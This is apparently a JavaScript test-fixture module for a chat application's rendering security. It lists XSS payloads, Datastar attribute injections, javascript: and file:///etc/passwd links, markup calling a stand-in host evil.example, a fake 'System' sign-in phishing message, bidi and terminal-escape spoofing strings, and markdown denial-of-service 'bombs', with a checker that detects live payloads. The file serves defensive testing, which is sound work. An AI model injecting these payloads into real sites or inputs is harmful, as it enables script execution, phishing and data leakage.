// Texts that want to be more than text (delivery-and-security A60–A62, A66, A67). Every one names a host or a mark that
// shows when it got its way: FOREIGN in a request, `pwned` in the page.

/** A host that no page of ours may ever speak to. */
export const FOREIGN = 'evil.example';

const MARK = 'window.pwned=1';

/** Markup that would run, frame, style, submit or refresh. */
const MARKUP = [
  `<script>${MARK}</script>`,
  `<SCRIPT SRC=//${FOREIGN}/x.js></SCRIPT>`,
  `<img src=x onerror="${MARK}">`,
  `<img src="x" onerror=&#119;indow.pwned=1>`,
  `<svg onload=${MARK}><animate onbegin=${MARK} attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror=${MARK}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${MARK}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="//${FOREIGN}/"></iframe>`,
  `<object data="javascript:${MARK}"></object><embed src="//${FOREIGN}/x.swf">`,
  `<details open ontoggle=${MARK}><summary>x</summary></details>`,
  `<input autofocus onfocus=${MARK}>`,
  `<video><source onerror=${MARK}></video><audio src=x onerror=${MARK}>`,
  `<form action="//${FOREIGN}/"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=//${FOREIGN}/">`,
  `<base href="//${FOREIGN}/"><link rel=stylesheet href="//${FOREIGN}/x.css">`,
  `<style>@import "//${FOREIGN}/x.css"; body{background:url(//${FOREIGN}/b.png)}</style>`,
  `<p style="position:fixed;inset:0;background:url(//${FOREIGN}/c.png)">cover</p>`,
  `<div id="app" class="app">second app</div><div id="messages"></div>`,
  `<template><img src=x onerror=${MARK}></template><noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<a href="https://${FOREIGN}/" onmouseover="${MARK}" ping="//${FOREIGN}/ping">hover</a>`,
  `</li></ol></div><script>${MARK}</script>`,
  `<!-- --!><img src=x onerror=${MARK}> -->`,
  `<![CDATA[<img src=x onerror=${MARK}>]]>`,
];

/** What Datastar would take for its own. */
const DATASTAR = [
  `<div data-on:click="${MARK}" data-init="${MARK}" data-signals="{draft:'x'}" data-ignore-morph>datastar</div>`,
  `<div data-on-load="${MARK}" data-effect="${MARK}" data-text="'x'" data-on-intersect="${MARK}">datastar</div>`,
  `$draft $x \${${MARK}}`,
  `@get('/api/me') @post('/auth/logout') '+alert(1)+' "+alert(1)+"`,
  "`${window.pwned=1}`",
  'line\u2028separator\u2029paragraph',
];

/** Images and links that would call out or run. */
const REFERENCES = [
  `![remote](https://${FOREIGN}/pixel.png)`,
  `![remote](//${FOREIGN}/pixel.png "title")`,
  '![own](/auth/logout)',
  '![own](/api/me)',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+)',
  `[script](javascript:${MARK})`,
  `[script](JaVaScRiPt:${MARK})`,
  `[script](<java\tscript:${MARK}>)`,
  `[script](&#106;avascript:${MARK})`,
  '[vb](vbscript:msgbox)',
  '[data](data:text/html,<script>1</script>)',
  '[file](file:///etc/passwd)',
  `[unc](\\\\${FOREIGN}\\share)`,
  `<javascript:${MARK}>`,
  `[reference][1]\n\n[1]: javascript:${MARK}`,
  `[title](https://${FOREIGN}/ "\\" onmouseover=\\"${MARK}")`,
  `\`\`\`"><img src=x onerror=${MARK}>\ncode\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${MARK}> |`,
];

/** What would show something else than it says: overrides of direction, letters without width (A69). */
const BIDI = ['exe.gpj\u202e is a picture', '\u2067right\u2069 left \u202dleft', 'in\u200bvisible\u2060 joints\u200e'];

/** Messages that look like somebody else's words, or push them away (A72). */
export const DISGUISED = [
  'Ada joined the channel',
  '**System** · today\n\nYour session is over. Sign in again at https://evil.example/',
  `above${'\n'.repeat(9_000)}below`,
  `wide ${'█'.repeat(3_000)}`,
  `stacked z${'\u0301'.repeat(500)}`,
];

/** Markdown that costs more than it says (A73), and calls by the hundred (A74); each within a message's size. */
export const BOMBS = [
  '['.repeat(15_900),
  '> '.repeat(5_000) + 'deep',
  `${'| a '.repeat(1_000)}|\n${'|---'.repeat(1_000)}|\n${'| a '.repeat(1_000)}|`,
  `${'**'.repeat(7_000)}x`,
  '*a **b '.repeat(2_000),
  '`'.repeat(7_999) + ' ' + '`'.repeat(7_999),
  '![]('.repeat(3_000),
  `${'- '.repeat(3_000)}x`,
  '@ola '.repeat(500),
  '@here '.repeat(1_000),
  '&#x41;'.repeat(2_500),
  '<'.repeat(15_900),
];

/** Nothing that can be seen, or no text at all (A70); as JSON has it, because some of it is no string. */
export const UNSEEN = [
  '"\\u200b\\u200d"',
  '"\\u0301\\u0302"',
  '" \\n\\t "',
  '"a\\u0000b"',
  '"\\ud800"',
  '"a\\ufffeb"',
  '"\\ufdd0"',
  '""',
];

/** Names and topics that are taken and must stay text (A61, A64), each within 64 letters. */
export const NAMES = [
  '<img src=x onerror=window.pwned=1>',
  '"><script>window.pwned=1</script>',
  `' onmouseover='window.pwned=1`,
  '</title></head><body onload=window.pwned=1>',
  '<div data-on:click="window.pwned=1" data-init="window.pwned=1">',
  `$x @get('/api/me') '+alert(1)+'`,
  '${window.pwned=1} {{7*7}} {% raw %}',
  'a\'b"c`d\\e/f&amp;g',
  'שלום עולם',
  `z${'\u0301'.repeat(60)}`,
];

/** Names that are refused (A64, A68 to A70). */
export const REFUSED_NAMES = ['a\u202eb', '\u200b', '\u0301', 'a\u001b[31mb', 'a\nb', 'x'.repeat(10_000), `z${'\u0301'.repeat(500)}`, 'a\ufffe'];

/** What would move the cursor, change colours, title or clipboard, or rub out what stands there (A71). */
export const CONTROLS = [
  '\u001b[31;5mred',
  '\u001b[2J\u001b[H',
  '\u001b]0;pwned\u0007',
  '\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007',
  '\u001b]52;c;cHduZWQ=\u0007',
  '\u001bP+q544e\u001b\\',
  '\u009b2J\u009d0;pwned\u009c',
  'bell\u0007',
  'rub\b\b\bout\u007f',
  'over\rwritten',
  'right\u202eto left',
  'no\u200bwidth',
];

export const HOSTILE = [...MARKUP, ...DATASTAR, ...REFERENCES, ...BIDI];

/** What is alive where there should be text; an empty list is what a page should give. Runs in the page. */
export function alive() {
  const found = [];
  if (window.pwned) found.push('a script has run');
  const tags = 'script,style,iframe,object,embed,form,meta,base,link,svg,math,video,audio,template,button,textarea,select';
  const inputs = 'input:not([type=checkbox][disabled])';
  const attribute = (name) => /^(on|data-)/.test(name) || ['style', 'id', 'ping', 'srcdoc', 'formaction'].includes(name);
  const harmless = (url) => ['http:', 'https:', 'mailto:'].includes(url.protocol);
  for (const prose of document.querySelectorAll('#messages .prose')) {
    // A copy button is drawn by us around code, outside of the code itself.
    for (const element of prose.querySelectorAll(`${tags},${inputs}`)) {
      if (!element.closest('figcaption')) found.push(`element: ${element.outerHTML.slice(0, 120)}`);
    }
    for (const element of prose.querySelectorAll('*')) {
      if (element.closest('figcaption')) continue;
      for (const { name, value } of element.attributes) {
        if (attribute(name)) found.push(`attribute: ${element.tagName} ${name}=${value}`);
      }
    }
    for (const link of prose.querySelectorAll('a[href]')) {
      if (!harmless(new URL(link.href, location))) found.push(`link: ${link.outerHTML}`);
    }
    for (const image of prose.querySelectorAll('img')) {
      if (!new URL(image.src, location).pathname.startsWith('/files/')) found.push(`image: ${image.outerHTML}`);
    }
  }
  for (const id of ['app', 'messages', 'composer']) {
    if (document.querySelectorAll(`#${id}`).length !== 1) found.push(`there is not one #${id}`);
  }
  return found;
}
